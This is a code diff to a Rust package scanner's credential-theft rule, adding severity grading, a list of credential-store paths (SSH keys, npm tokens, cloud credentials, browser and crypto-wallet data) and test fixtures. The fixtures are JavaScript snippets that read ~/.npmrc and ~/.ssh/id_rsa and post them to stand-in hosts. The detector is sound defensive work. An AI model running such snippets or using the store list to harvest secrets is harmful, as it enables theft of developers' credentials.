@@ -29,6 +29,15 @@ diligence_finding::declare_rule! {
 
 /// One finding per (file, line) of a credential path in a file that reads files or spawns.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    // One credential store read by a networking package is what its own SDK does (a cloud SDK
+    // reading `~/.aws/credentials`); several stores, or one store next to an exfiltration
+    // ingredient (suspicious endpoint, env dump, hidden or obfuscated code), is a stealer.
+    let stores: std::collections::BTreeSet<String> = p
+        .all(Kind::CredentialPath)
+        .filter(|(f, _)| f.has(Kind::FsRead) || f.has(Kind::Spawn))
+        .map(|(_, s)| store_of(&s.detail))
+        .collect();
+    let corroborated = stores.len() >= 2 || p.has_any(CORROBORATION);
     let mut out = per_signal(p, Kind::CredentialPath, |f, s| {
         if !f.has(Kind::FsRead) && !f.has(Kind::Spawn) {
             return None;
@@ -37,10 +46,10 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         if loc == Locality::Alone {
             return None;
         }
-        let sev = if loc >= Locality::File {
-            Severity::Critical
-        } else {
-            Severity::High
+        let sev = match (corroborated, loc >= Locality::File) {
+            (true, true) => Severity::Critical,
+            (true, false) => Severity::High,
+            (false, _) => Severity::Medium,
         };
         let msg = format!(
             "credential store `{}` read in a package that sends data out",
@@ -75,6 +84,53 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
     out
 }
 
+const CORROBORATION: &[Kind] = &[
+    Kind::Endpoint,
+    Kind::EnvDump,
+    Kind::HiddenCode,
+    Kind::HiddenModuleName,
+    Kind::StringArrayRotation,
+    Kind::HexIdentifiers,
+    Kind::CharCodeDecoder,
+    Kind::RemoteExec,
+    Kind::ReverseShell,
+    Kind::EnvSecretFilter,
+];
+
+/// The credential store a path names (`.ssh/id_rsa` and `id_rsa` are both `ssh`).
+fn store_of(detail: &str) -> String {
+    let d = detail.to_ascii_lowercase();
+    let stores = [
+        ("npmrc", "npm"),
+        ("authtoken", "npm"),
+        ("ssh", "ssh"),
+        ("id_rsa", "ssh"),
+        ("id_ed25519", "ssh"),
+        (".aws", "aws"),
+        ("docker", "docker"),
+        ("kube", "kube"),
+        ("git-credentials", "git"),
+        ("netrc", "netrc"),
+        ("pypirc", "pypi"),
+        ("local storage", "browser"),
+        ("leveldb", "browser"),
+        ("login data", "browser"),
+        ("local state", "browser"),
+        ("wallet", "wallet"),
+        ("exodus", "wallet"),
+        ("electrum", "wallet"),
+        ("metamask", "wallet"),
+        ("nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet"),
+        ("solana", "wallet"),
+        ("keystore", "wallet"),
+        ("gnupg", "gpg"),
+    ];
+    stores
+        .iter()
+        .find(|(k, _)| d.contains(k))
+        .map_or(d.clone(), |(_, v)| v.to_string())
+}
+
 #[cfg(test)]
 mod tests {
     use crate::rules::test_util::{PJ, hits, scan};
@@ -85,13 +141,33 @@ mod tests {
             ("package.json", PJ),
             (
                 "a.js",
-                "const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nhttps.request('https://x.example.net').end(t);\n",
+                "const fs = require('fs'), https = require('https'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') + fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nhttps.request('https://x.example.net').end(t);\n",
             ),
         ]);
         assert_eq!(
             hits(&s, "code/credential-theft"),
             vec![("a.js".to_string(), 2)]
         );
+        assert_eq!(
+            s.findings[0].severity,
+            diligence_finding::Severity::Critical
+        );
+    }
+
+    #[test]
+    fn single_store_is_medium() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "a.js",
+                "const fs = require('fs'), https = require('https');\nconst c = fs.readFileSync(require('os').homedir() + '/.aws/credentials');\nhttps.request('https://sts.example.com').end(c);\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/credential-theft"),
+            vec![("a.js".to_string(), 2)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Clean);
     }
 
     #[test]
